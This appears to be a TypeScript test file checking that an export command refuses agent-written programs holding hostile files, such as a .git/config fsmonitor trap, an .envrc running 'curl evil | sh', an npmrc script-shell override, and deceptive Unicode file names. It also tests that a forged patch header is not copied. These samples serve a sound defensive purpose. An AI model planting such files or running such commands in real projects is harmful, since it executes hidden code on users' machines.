import { promises as fs } from 'fs';
import * as os from 'os';
import * as path from 'path';
import { ProgramPathError, readProgramDir } from '../../src/agent/program';
import { Archive } from '../../src/archive';
import { EXPORT_WARNING, exportNode } from '../../src/cli/exportNode';
import { MemoryObjectStore } from '../../src/storage';
import { canonicalJson } from '../../src/util/canonical';
import { freshRunId, makeNode } from '../archive/fixtures';

/*
 * `hyperagents export` writes agent-written code onto the operator's machine: a program holding a
 * `.git/config` (core.fsmonitor runs a command on `git status`) or another tool file must never be
 * written, even from an old snapshot stored before such paths were refused.
 */

let tmp: string;
beforeEach(async () => {
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'export-hostile-'));
});
afterEach(async () => {
  await fs.rm(tmp, { recursive: true, force: true });
});

/** A node whose snapshot is stored as raw canonical JSON, as an archive written before the check. */
async function oldNode(files: Record<string, string>): Promise<{ archive: Archive; runId: string }> {
  const archive = new Archive(new MemoryObjectStore());
  const runId = freshRunId();
  const snapshotKey = await archive.putBlob(canonicalJson(files));
  await archive.putNode(makeNode(runId, 0, null, {}, { snapshotKey }));
  return { archive, runId };
}

const trap = '[core]\n\tfsmonitor = touch /tmp/pwned\n';

test.each([
  ['.git/config', trap],
  ['.GIT/config', trap],
  ['lib/.Git/HEAD', 'ref: refs/heads/main\n'],
  ['.git./config', trap],
  ['git~1/config', trap],
  ['.envrc', 'curl evil | sh\n'],
  ['.vscode/tasks.json', '{}'],
  ['.idea/workspace.xml', '<x/>'],
  ['.npmrc', 'script-shell=/tmp/evil\n'],
  ['.gitattributes', '* filter=evil\n'],
  ['notes\u001b[2J.md', 'clears the terminal'],
  ['x\u202egpj.mjs', 'shows as xjpg.mjs'],
])('export refuses an archived program holding %j and writes nothing', async (bad, content) => {
  const { archive, runId } = await oldNode({ 'task_agent.mjs': 'export const w = 1;\n', [bad]: content });
  const dir = path.join(tmp, 'out');
  const refused = exportNode(archive, runId, 'gen-00000', dir);
  await expect(refused).rejects.toThrow(ProgramPathError);
  await expect(refused).rejects.toThrow(
    /refusing to export .*untrusted, agent-written code.*nothing was written/,
  );
  await expect(fs.access(dir)).rejects.toThrow();
});

test('export of a clean program says the folder holds untrusted, agent-written code', async () => {
  const files = { 'task_agent.mjs': 'export const w = 1;\n', '.gitignore': 'node_modules\n' };
  const { archive, runId } = await oldNode(files);
  const out = await exportNode(archive, runId, 'gen-00000', path.join(tmp, 'out'));
  expect(out.warning).toBe(EXPORT_WARNING);
  expect(out.warning).toMatch(/untrusted, agent-written code/);
  expect(await readProgramDir(out.programDir)).toEqual(files);
});

test('the exported patch is made anew from the snapshots: a stored patch with a forged header is not copied', async () => {
  const { archive, runId } = await oldNode({ 'task_agent.mjs': 'export const w = 1;\n' });
  const child = { 'task_agent.mjs': 'export const w = 2;\n' };
  const snapshotKey = await archive.putBlob(canonicalJson(child));
  // A patch stored before paths were quoted: a newline in a name forged a second file's header.
  const forged = 'diff --git a/x b/x\n--- a/x\n+++ b/x\ndiff --git a/.git/config b/.git/config\n+fsmonitor\n';
  const patchKey = await archive.putBlob(forged);
  await archive.putNode(makeNode(runId, 1, 0, {}, { snapshotKey, patchKey, patchEmpty: false }));
  const out = await exportNode(archive, runId, 'gen-00001', path.join(tmp, 'child'));
  const patch = await fs.readFile(out.patchFile!, 'utf8');
  expect(patch).toBe((await archive.diffNodes(runId, 'gen-00000', 'gen-00001')).patch);
  expect(patch).not.toContain('.git/config');
  expect(patch).toContain('+export const w = 2;');
});
